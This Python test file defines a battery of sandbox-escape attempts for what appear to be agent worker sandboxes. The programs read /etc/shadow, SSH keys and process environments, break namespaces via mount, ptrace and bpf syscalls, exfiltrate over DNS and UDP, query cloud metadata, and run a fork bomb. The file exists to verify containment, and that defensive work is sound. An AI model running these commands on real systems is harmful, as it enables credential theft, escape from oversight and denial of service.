# ruff: noqa: E501  (a table of shell programs: their lines read better unbroken)
"""The escape attempts of the containment battery.

Each attempt is a small shell program (python3 heredocs where the shell cannot say it) that prints ESCAPED
when it got through, plus host-side checks that do not trust the program's own word: a listener that counts
connections, a file that must not appear, a process that must stay alive. ``{NAME}`` placeholders are filled
from the battery's context before the program runs. A passed attempt is a blocked one.

A test that cannot fail proves nothing, so each probe is written to get through on a host without the sandbox
(checked by running the programs unconfined as an unprivileged uid): syscall probes count any answer but the
filter's EPERM as getting through, and every python probe prints ``PROBED`` once it has run to its end, which
the battery requires, so a probe that crashed or never started is not taken for a blocked one.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

Check = Callable[[Any, Any], tuple[bool, str]]
"""(route result, context) -> (blocked?, what was seen); extra checks beyond 'no ESCAPED in the output'."""


@dataclass
class Attempt:
    id: str
    title: str
    program: str
    profile: str = "strict"
    """'strict' (no network) or 'egress' (allow-list through the gateway's proxy)."""
    secret: str | None = None
    """A context key whose value must not appear in the output (a secret the attempt tries to read)."""
    limit: str | None = None
    """The limit the worker must be stopped by ('pids', 'memory', 'cpu', 'timeout')."""
    checks: list[Check] = field(default_factory=list)
    after: str | None = None
    """'stop-worker': stop the route's worker before the host checks (leftover processes)."""
    ends_worker: bool = False
    """The program may take its own worker down with it (a stopped worker is then an answer too)."""
    expect: str | None = None
    """Output that shows the probe ran as intended, for a probe that cannot print PROBED (it is killed)."""


PROBED = "PROBED"


def py(code: str, *args: str, probed: bool = True) -> str:
    """A python3 program as a shell heredoc (the quoted delimiter keeps the shell's hands off it); it prints
    PROBED when it ran to its end."""
    end = f"\nprint('{PROBED}')" if probed else ""
    return f"python3 - {' '.join(args)} <<'PYEOF'\n{code.strip()}{end}\nPYEOF\n"


SYSCALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(nr, *args)
    return r, os.strerror(ctypes.get_errno()) if r < 0 else "ok"
def reached(name, r, e):  # the filter answers EPERM; any other answer (even an error) reached the kernel
    print(name, e)
    if e != os.strerror(1): print('ESCAPED', name)
"""


def host_file_absent(key: str) -> Check:
    def check(res: Any, ctx: Any) -> tuple[bool, str]:
        import os

        path = ctx.values[key]
        return (not os.path.exists(path), f"host file {path} {'exists' if os.path.exists(path) else 'absent'}")

    return check


def listener_untouched(key: str) -> Check:
    def check(res: Any, ctx: Any) -> tuple[bool, str]:
        n = ctx.listeners[key].count
        return n == 0, f"host listener {key} saw {n} contacts"

    return check


def victim_alive(res: Any, ctx: Any) -> tuple[bool, str]:
    alive = ctx.victim.poll() is None
    return alive, "host process alive" if alive else "host process was killed"


def gateway_alive(res: Any, ctx: Any) -> tuple[bool, str]:
    ok = ctx.gateway_healthy()
    return ok, "gateway healthy" if ok else "gateway not answering"


def no_leftovers(res: Any, ctx: Any) -> tuple[bool, str]:
    left = ctx.leftover_processes()
    return not left, "no process left" if not left else f"left running: {left}"


def uid_is_workers(res: Any, ctx: Any) -> tuple[bool, str]:
    lines = [x for x in res.stdout.split() if x.isdigit()]
    if not lines:
        return False, "no uid printed"
    uid = int(lines[-1])
    ok = ctx.uid_base <= uid < ctx.uid_base + ctx.uid_count and uid != ctx.other_uid and uid != ctx.gateway_uid
    return ok, f"worker uid {uid} (other agent {ctx.other_uid}, gateway {ctx.gateway_uid})"


def egress_refused(res: Any, ctx: Any) -> tuple[bool, str]:
    now = ctx.egress_denied()
    grew = now > ctx.egress_seen
    ctx.egress_seen = now
    return grew, f"egress_denied_total now {now:g}"


SETUID = """
import os, subprocess, time
r, w = os.pipe()
os.set_blocking(w, False)
try:
    while True: os.write(w, b'x' * 4096)
except BlockingIOError: pass
os.set_blocking(w, True)
# mount is setuid root; with its output pipe full it blocks in write(2), still holding what exec gave it
p = subprocess.Popen(['/usr/bin/mount'], stdout=w, stderr=w)
status = {}
for _ in range(100):
    with open(f'/proc/{p.pid}/status') as f:
        status = dict(line.split(':', 1) for line in f.read().splitlines())
    if status['Name'].strip() == 'mount' and status['State'].split()[0] == 'S':
        break
    time.sleep(0.05)
else:
    raise SystemExit('mount never started and blocked')
print('mount running, Uid:', status['Uid'].split())
if status['Uid'].split()[1] == '0': print('ESCAPED')
os.close(r); p.wait()
"""

ATTEMPTS: list[Attempt] = [
    # --- secrets on the host -------------------------------------------------------------------------------
    Attempt("shadow", "read /etc/shadow", "cat /etc/shadow && echo ESCAPED"),
    Attempt(
        "ssh-key",
        "read the gateway user's ~/.ssh/id_rsa",
        "cat {DECOY_KEY}; cat ~root/.ssh/id_rsa; cat $HOME/.ssh/id_rsa; cat /root/.ssh/id_rsa",
        secret="SSH_MARK",
    ),
    Attempt("root-home", "list /root", "ls -la /root && echo ESCAPED"),
    Attempt(
        "other-workspace",
        "read another agent's workspace",
        "cat {OTHER_WS}/secret.txt; ls {OTHER_WS}",
        secret="OTHER_MARK",
    ),
    Attempt(
        "dotdot",
        "'..' out of the workspace into another agent's",
        "cat ../{OTHER_AGENT}/secret.txt; cat {OWN_WS}/../{OTHER_AGENT}/secret.txt; cd .. && ls",
        secret="OTHER_MARK",
    ),
    Attempt("symlink-shadow", "symlink to /etc/shadow", "ln -sf /etc/shadow s1 && cat s1 && echo ESCAPED; rm -f s1"),
    Attempt(
        "symlink-other",
        "symlink into another agent's workspace",
        "ln -sf {OTHER_WS}/secret.txt s2; cat s2; rm -f s2",
        secret="OTHER_MARK",
    ),
    Attempt(
        "hardlink",
        "hard link a file from outside into the workspace",
        "ln /etc/passwd h1 && echo ESCAPED; ln {OTHER_WS}/secret.txt h2 && echo ESCAPED; "
        "ln /usr/bin/su h3 && echo ESCAPED; rm -f h1 h2 h3",
    ),
    Attempt(
        "proc1-environ",
        "read /proc/1/environ",
        "cat /proc/1/environ | tr '\\0' '\\n'; cat /proc/2/environ",
        secret="GW_SECRET",
    ),
    Attempt(
        "gateway-env",
        "read the gateway's environment",
        "env; cat /proc/{GW_PID}/environ; for f in /proc/*/environ; do cat $f; done",
        secret="GW_SECRET",
    ),
    Attempt(
        "gateway-proc",
        "see the gateway's process",
        'ls /proc/{GW_PID}/ && echo ESC""APED; ps -eo pid,user,comm; '
        "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done",
        secret="GW_CMD",
    ),
    Attempt(
        "deny-path", "read a denied path inside the workspace", "cat .secrets/key; ls -la .secrets", secret="DENY_MARK"
    ),
    # --- writes outside the grants -------------------------------------------------------------------------
    Attempt(
        "write-usr",
        "write into /usr",
        "echo x > /usr/escape-{RAND} && echo ESCAPED",
        checks=[host_file_absent("USR_MARK")],
    ),
    Attempt(
        "write-etc", "write into /etc", "echo x > /etc/escape && echo ESCAPED; echo x >> /etc/passwd && echo ESCAPED"
    ),
    Attempt(
        "write-root", "write at the sandbox root", "echo x > /escape && echo ESCAPED; mkdir /newdir && echo ESCAPED"
    ),
    Attempt(
        "write-ws-root",
        "write into the workspace root",
        "echo x > {WS_ROOT}/escape-{RAND}; echo wrote",
        checks=[host_file_absent("WS_ROOT_MARK")],
    ),
    Attempt(
        "host-tmp",
        "write a file into the host's /tmp",
        "echo x > {HOST_MARK}; echo wrote",
        checks=[host_file_absent("HOST_MARK")],
    ),
    Attempt(
        "shared-tmp",
        "read another agent's /tmp",
        "cat /tmp/shared-{RAND} && echo ESCAPED; ls /tmp",
        secret="SHARED_MARK",
    ),
    # --- kernel interfaces ---------------------------------------------------------------------------------
    Attempt(
        "bind-mount",
        "bind-mount / into the workspace",
        "mkdir -p m; "
        + py(
            SYSCALL + "r, e = sc(165, b'/', b'm', None, 0x1000, None)\nprint('mount MS_BIND', e)\n"
            "if r == 0: print('ESCAPED')"
        )
        + "rmdir m",
    ),
    Attempt(
        "mount-fs",
        "mount a tmpfs and a procfs",
        "mkdir -p m; "
        + py(
            SYSCALL + "for fs in (b'tmpfs', b'proc'):\n    r, e = sc(165, b'none', b'm', fs, 0, None)\n"
            "    print('mount', fs, e)\n    if r == 0: print('ESCAPED')"
        )
        + "rmdir m",
    ),
    Attempt("unshare-user", "new user namespace (be root in it)", "unshare -Ur id && echo ESCAPED"),
    Attempt(
        "unshare-ns",
        "new mount/net/pid namespaces",
        "unshare -m true && echo ESCAPED; unshare -n true && echo ESCAPED; unshare -fp true && echo ESCAPED",
    ),
    Attempt(
        "setns",
        "enter other namespaces",
        "nsenter -t {GW_PID} -a true && echo ESCAPED; "
        + py(
            SYSCALL + "fd = os.open('/proc/self/ns/net', os.O_RDONLY)\nr, e = sc(308, fd, 0)\n"
            "print('setns', e)\nif r == 0: print('ESCAPED')"
        ),
    ),
    Attempt(
        "chroot",
        "chroot",
        py("import os\ntry:\n    os.chroot('/tmp'); print('ESCAPED')\nexcept OSError as e:\n    print('chroot', e)"),
    ),
    Attempt(
        "ptrace",
        "ptrace a sibling process",
        "sleep 30 >/dev/null 2>&1 & p=$!; "
        + py(
            SYSCALL + "import sys\npid = int(sys.argv[1])\nos.kill(pid, 0)  # the target is there\n"
            "r, e = sc(101, 16, pid, 0, 0)\nprint('ptrace', pid, e)\nif r == 0: print('ESCAPED')",
            "$p",
        )
        + "kill $p",
    ),
    Attempt(
        "process-vm",
        "read a sibling's memory (process_vm_readv)",
        py(
            SYSCALL + "secret = ctypes.create_string_buffer(b'sibling-memory', 16)\npid = os.fork()\n"
            "if pid == 0:\n    import time; time.sleep(30); os._exit(0)\n"
            "out = ctypes.create_string_buffer(16)\n"
            "class iov(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n"
            "loc, rem = iov(ctypes.addressof(out), 16), iov(ctypes.addressof(secret), 16)  # same address in the child\n"
            "one, zero = ctypes.c_ulong(1), ctypes.c_ulong(0)  # full registers: the kernel reads all 64 bits\n"
            "r, e = sc(310, pid, ctypes.byref(loc), one, ctypes.byref(rem), one, zero)\nos.kill(pid, 9)\n"
            "reached('process_vm_readv', r, e)\nprint('read', out.value)"
        ),
    ),
    Attempt(
        "kill-host",
        "kill a host process of the agent's own uid by pid",
        "kill -9 {VICTIM} && echo ESCAPED",
        checks=[victim_alive],
    ),
    Attempt(
        "kill-all",
        "kill -9 -1 (every process the worker may signal)",
        "kill -9 -1; echo still-here",
        checks=[victim_alive, gateway_alive],
        ends_worker=True,
    ),
    Attempt(
        "signal-gateway",
        "signal the gateway",
        "kill -TERM {GW_PID} && echo ESCAPED; kill -STOP {GW_PID}",
        checks=[gateway_alive],
    ),
    Attempt("setuid", "gain root through a setuid binary (its effective uid, seen while it runs)", py(SETUID)),
    Attempt(
        "privileges",
        "no_new_privs set, no capabilities",
        "grep -E 'NoNewPrivs|CapEff|CapPrm|Seccomp:' /proc/self/status; "
        "grep -q 'NoNewPrivs:[[:space:]]*1' /proc/self/status || echo ESCAPED; "
        "grep -Eq 'Cap(Eff|Prm):[[:space:]]*0*[1-9a-f]' /proc/self/status && echo ESCAPED",
    ),
    Attempt(
        "root-uid",
        "run as root (CI runs the gateway as root)",
        'id; [ "$(id -u)" = 0 ] && echo ESCAPED; id -u',
        checks=[uid_is_workers],
    ),
    Attempt(
        "cgroup-escape",
        "leave the worker's cgroup",
        "echo $$ > /sys/fs/cgroup/pids/cgroup.procs && echo ESCAPED; "
        "ls /sys/fs/cgroup && echo ESCAPED; cat /proc/self/cgroup",
    ),
    Attempt(
        "devices",
        "raw devices",
        "ls /dev; head -c1 /dev/mem && echo ESCAPED; head -c1 /dev/kmsg && echo ESCAPED; "
        "ls /dev/sd* /dev/vd* /dev/nvme* 2>/dev/null && echo ESCAPED",
    ),
    Attempt(
        "io-uring",
        "io_uring",
        py(SYSCALL + "p = ctypes.create_string_buffer(120)\nr, e = sc(425, 8, p)\nreached('io_uring_setup', r, e)"),
    ),
    Attempt(
        "bpf",
        "bpf()",
        py(SYSCALL + "a = ctypes.create_string_buffer(128)\nr, e = sc(321, 0, a, 128)\nreached('bpf', r, e)"),
    ),
    Attempt(
        "keyring",
        "kernel keyring",
        py(
            SYSCALL + "r, e = sc(248, b'user', b'k', b'v', 1, -2)\n"
            "reached('add_key', r, e)\nr, e = sc(250, 0, -2, 0, 0, 0)\n"
            "reached('keyctl', r, e)"
        ),
    ),
    Attempt(
        "open-by-handle",
        "open_by_handle_at (container escape of old)",
        py(
            SYSCALL + "h = ctypes.create_string_buffer(136)\nctypes.memmove(h, (128).to_bytes(4, 'little'), 4)\n"
            "m = ctypes.c_int()\nr, e = sc(303, -100, b'/usr', h, ctypes.byref(m), 0)\n"
            "reached('name_to_handle_at', r, e)\nr, e = sc(304, -100, h, 0)\nreached('open_by_handle_at', r, e)"
        ),
    ),
    Attempt(
        "x32-abi",
        "syscalls through the 32-bit ABI (int 0x80)",
        py(
            "import ctypes, mmap\n"
            "code = bytes([0xb8, 0x18, 0, 0, 0, 0xcd, 0x80, 0xc3])  # mov eax, 24 (getuid); int 0x80; ret\n"
            "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(code)\n"
            "f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n"
            "print('int80 returned', f())\nprint('ESCAPED')",
            probed=False,
        )
        + "echo exit=$?",
        expect="exit=159",
    ),  # 128 + SIGSYS: killed by the filter's architecture check
    # --- network -------------------------------------------------------------------------------------------
    Attempt(
        "tcp-loopback",
        "connect to a host listener on 127.0.0.1",
        py(
            "import socket\nfor h in ('127.0.0.1', 'localhost'):\n    try:\n"
            "        socket.create_connection((h, {TCP}), 3); print('ESCAPED', h)\n"
            "    except OSError as e: print(h, e)"
        ),
        checks=[listener_untouched("tcp")],
    ),
    Attempt(
        "tcp-host-ip",
        "connect to a host listener on the host's own address",
        py(
            "import socket\ntry:\n    socket.create_connection(('{HOST_IP}', {TCP_ANY}), 3); print('ESCAPED')\n"
            "except OSError as e: print(e)"
        ),
        checks=[listener_untouched("tcp_any")],
    ),
    Attempt(
        "udp-exfil",
        "UDP datagrams to the host",
        py(
            "import socket\nfor h in ('127.0.0.1', '{HOST_IP}'):\n    try:\n"
            "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'exfil', (h, {UDP})); print('sent', h)\n"
            "    except OSError as e: print(h, e)"
        ),
        checks=[listener_untouched("udp")],
    ),
    Attempt(
        "dns-exfil",
        "DNS queries to carry data out (the resolver, and a DNS server on the host)",
        "getent hosts exfil-{RAND}.example.com && echo ESCAPED; "
        + py(
            "import socket, struct\ntry:\n    print(socket.getaddrinfo('exfil-{RAND}.example.org', 53)); print('ESCAPED')\n"
            "except OSError as e: print(e)\n"
            "q = struct.pack('>6H', 0x4d43, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() "
            "for p in 'exfil-{RAND}.example.com'.split('.')) + b'\\0' + struct.pack('>2H', 16, 1)\n"
            "for h in ('127.0.0.1', '{HOST_IP}'):\n    try:\n"
            "        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, (h, {DNS})); print('query sent', h)\n"
            "    except OSError as e: print(h, e)"
        ),
        checks=[listener_untouched("dns")],
    ),
    Attempt(
        "raw-socket",
        "raw and packet sockets",
        py(
            "import socket\nfor args in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 3)):\n"
            "    try:\n        socket.socket(*args); print('ESCAPED', args)\n    except OSError as e: print(args, e)"
        ),
    ),
    Attempt(
        "netlink",
        "netlink sockets (network configuration)",
        py(
            "import socket\ntry:\n    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print('ESCAPED')\n"
            "except OSError as e: print(e)"
        )
        + "ip link set lo down && echo ESCAPED",
    ),
    Attempt(
        "abstract-unix",
        "connect to a host abstract Unix socket",
        py(
            "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('\\0{ABSTRACT}'); print('ESCAPED')\n"
            "except OSError as e: print(e)"
        ),
        checks=[listener_untouched("abstract")],
    ),
    Attempt(
        "host-unix",
        "connect to a host Unix socket by path",
        py(
            "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('{HOST_SOCK}'); print('ESCAPED')\n"
            "except OSError as e: print(e)"
        ),
        checks=[listener_untouched("unix")],
    ),
    Attempt(
        "egress-unlisted",
        "HTTPS to a host not on the allow-list (through the proxy)",
        "curl -fsS -m 8 -o /dev/null https://unlisted-{RAND}.example.com/ && echo ESCAPED",
        profile="egress",
        checks=[egress_refused],
    ),
    Attempt(
        "egress-loopback",
        "a listed name that resolves to loopback (the host listener)",
        "curl -fsS -m 8 http://localhost:{TCP}/ && echo ESCAPED",
        profile="egress",
        checks=[listener_untouched("tcp"), egress_refused],
    ),
    Attempt(
        "egress-metadata",
        "the cloud metadata address",
        "curl -fsS -m 8 http://169.254.169.254/latest/meta-data/ && echo ESCAPED",
        profile="egress",
        checks=[egress_refused],
    ),
    Attempt(
        "egress-bypass",
        "connect directly, around the proxy",
        "curl -sS -m 5 --noproxy '*' http://{HOST_IP}:{TCP_ANY}/ "
        "&& echo ESCAPED; "
        + py(
            "import socket\nfor h in ('{HOST_IP}', '1.1.1.1'):\n    try:\n"
            "        socket.create_connection((h, {TCP_ANY}), 3); print('ESCAPED', h)\n"
            "    except OSError as e: print(h, e)"
        ),
        profile="egress",
        checks=[listener_untouched("tcp_any")],
    ),
    # --- resources -----------------------------------------------------------------------------------------
    Attempt(
        "fork-bomb", "fork bomb", "b() { b | b & }; b; sleep 5; echo survived", limit="pids", checks=[gateway_alive]
    ),
    Attempt(
        "memory-bomb",
        "allocate far past the memory limit",
        py("x = bytearray(1 << 30)\nprint('ESCAPED', len(x))"),
        limit="memory",
        checks=[gateway_alive],
    ),
    Attempt("cpu-spin", "spin past the CPU limit", "while :; do :; done", limit="cpu"),
    Attempt("timeout", "run past the time limit", "sleep 120; echo ESCAPED", limit="timeout"),
    Attempt(
        "huge-file",
        "write a file past max_file_mb",
        "head -c 100000000 /dev/zero > big; s=$(stat -c %s big); echo size $s; "
        '[ "$s" -gt {MAX_FILE_BYTES} ] && echo ESCAPED; rm -f big',
    ),
    Attempt(
        "fd-exhaustion",
        "open files past open_files",
        py(
            "import os\nfds = []\ntry:\n    while len(fds) < 100000: fds.append(os.open('/dev/null', os.O_RDONLY))\n"
            "except OSError as e: print(len(fds), e)\nif len(fds) >= {OPEN_FILES}: print('ESCAPED')"
        ),
    ),
    Attempt(
        "leftover",
        "leave a process running after the call",
        "setsid sleep 600 >/dev/null 2>&1 & nohup sleep 601 >/dev/null 2>&1 & (sleep 602 >/dev/null 2>&1 &); "
        "echo started",
        checks=[no_leftovers],
        after="stop-worker",
    ),
]
